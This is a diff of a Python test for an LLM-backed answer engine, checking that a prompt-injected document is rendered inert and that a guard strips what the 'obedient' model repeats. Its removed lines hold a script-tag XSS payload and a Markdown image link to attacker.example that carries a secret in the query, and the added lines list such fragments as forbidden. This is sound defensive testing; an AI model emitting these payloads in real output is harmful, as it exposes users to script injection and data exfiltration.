@@ -402,17 +402,18 @@ def test_injected_document_is_shown_as_text_in_every_mode(mode, served, engine, 
             expected_mode = "extractive" if mode != "llm" else "llm"
             assert result["mode"] == expected_mode
             if mode == "llm":
-                assert "<script>alert(1)</script>" in result["text"]  # what the "obedient" model said
-                assert "[99]" not in result["text"]  # a marker with no source is dropped
+                # The guard keeps the one sentence the document supports, as plain text: no tag, no Markdown
+                # image or link, no marker to no source, no sentence about the system prompt.
+                assert "The lamp is lit in March" in result["text"], result["text"]
+                for gone in ("<script", "<img", "<a ", "attacker.example", "![", "[99]", "system prompt"):
+                    assert gone not in result["text"], (gone, result["text"])
+                assert result["dropped"]  # what was left out is reported, with why
             if mode == "llm-fallback":
                 assert "Showing the offline answer instead" in result["notice"]
 
             page = rendered(answer_from_dict(result))
             assert_inert(page)  # fails if esc() were removed from any renderer
             assert ESCAPED_MARKUP in page
-            if mode == "llm":
-                assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
-                assert "![x](http://attacker.example/?q=secret)" in page  # Markdown shown as its characters
 
         # The browser's own chat handler, end to end on the same engine.
         page = respond_html(app_ui, INJECTION_QUESTION)
